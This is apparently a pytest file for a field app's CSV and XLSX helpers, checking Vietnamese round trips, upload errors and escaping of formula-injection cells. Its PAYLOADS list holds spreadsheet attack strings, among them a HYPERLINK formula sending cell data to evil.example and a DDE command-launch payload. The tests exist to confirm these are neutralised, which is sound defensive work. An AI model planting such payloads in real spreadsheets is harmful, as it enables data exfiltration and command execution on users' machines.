"""CSV and XLSX helpers shared by reports, imports and exports."""
import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from fieldapp.spreadsheets import Sheet, SpreadsheetError, csv_bytes, read_rows, xlsx_bytes


def test_csv_has_a_bom_and_round_trips_diacritics(app):
    data = csv_bytes(["Thôn", "Số hộ"], [["Thôn Đông Hòa", 12], ["Ấp Mỹ", None]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = read_rows("x.csv", data)
    assert rows == [(1, ["Thôn", "Số hộ"]), (2, ["Thôn Đông Hòa", "12"]), (3, ["Ấp Mỹ", ""])]


def test_xlsx_keeps_numbers_as_numbers_and_reads_back(app):
    data = xlsx_bytes([Sheet("Tổng hợp", ["Xã", "Hộ", "Ngày"], [["Phường Hòa", 1328, date(2026, 10, 10)]]),
                       Sheet("Tổng hợp", ["a"], [[1.5]])])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Tổng hợp", "Tổng hợp (2)"]
    ws = book["Tổng hợp"]
    assert ws["B2"].value == 1328 and ws["B2"].data_type == "n"
    assert read_rows("r.xlsx", data)[1] == (2, ["Phường Hòa", "1328", "10/10/2026"])


def test_unreadable_uploads_get_a_message(app):
    with pytest.raises(SpreadsheetError, match="UTF-8"):
        read_rows("a.csv", "Thôn".encode("utf-16"))
    with pytest.raises(SpreadsheetError, match="Excel"):
        read_rows("a.xlsx", b"not a zip")
    with pytest.raises(SpreadsheetError, match=r"\.csv"):
        read_rows("a.pdf", b"x")
    with pytest.raises(SpreadsheetError):
        read_rows("a.csv", b"\n\n")


# --- Formula injection (OWASP "CSV injection"): every text cell beginning with = + - @, tab or CR ---

PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_csv_text_cells_that_start_a_formula_are_escaped(app):
    data = csv_bytes(["=Tiêu đề"], [[p] for p in PAYLOADS] + [["H-001"], [-5], ["Bình thường"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'=Tiêu đề"]
    assert [r[0] for r in rows[1:len(PAYLOADS) + 1]] == ["'" + p for p in PAYLOADS]
    assert [r[0] for r in rows[len(PAYLOADS) + 1:]] == ["H-001", "-5", "Bình thường"]  # numbers stay numbers
    # and an import of the same file reads the values as they were typed
    assert [cells[0] for _n, cells in read_rows("x.csv", data)[1:len(PAYLOADS) + 1]] == [p.strip() for p in PAYLOADS]


def test_xlsx_text_cells_that_start_a_formula_are_text_not_formulas(app):
    data = xlsx_bytes([Sheet("Hộ", ["=Mã hộ", "Số"], [[p, -5] for p in PAYLOADS])])
    ws = load_workbook(io.BytesIO(data))["Hộ"]
    cells = [ws.cell(row=r, column=1) for r in range(1, len(PAYLOADS) + 2)]
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
        assert cell.quotePrefix, cell.coordinate  # Excel shows it as typed and keeps it text when edited
    assert [c.value for c in cells] == ["=Mã hộ", *(p.replace("\r", "\n") for p in PAYLOADS)]  # XML: CR -> LF
    assert ws.cell(row=2, column=2).value == -5 and ws.cell(row=2, column=2).data_type == "n"
    assert [cells[0] for _n, cells in read_rows("x.xlsx", data)[1:]] == [p.strip() for p in PAYLOADS]
